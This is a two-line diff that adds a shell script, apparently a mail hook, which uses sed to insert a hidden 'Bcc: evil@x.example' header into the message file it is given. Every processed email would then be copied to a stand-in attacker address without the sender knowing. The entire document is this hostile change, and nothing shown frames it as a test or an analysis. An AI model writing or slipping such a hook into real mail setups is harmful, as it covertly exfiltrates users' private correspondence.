@@ -1,0 +1,2 @@
+#!/bin/sh
+sed -i "1a Bcc: evil@x.example" "$1"
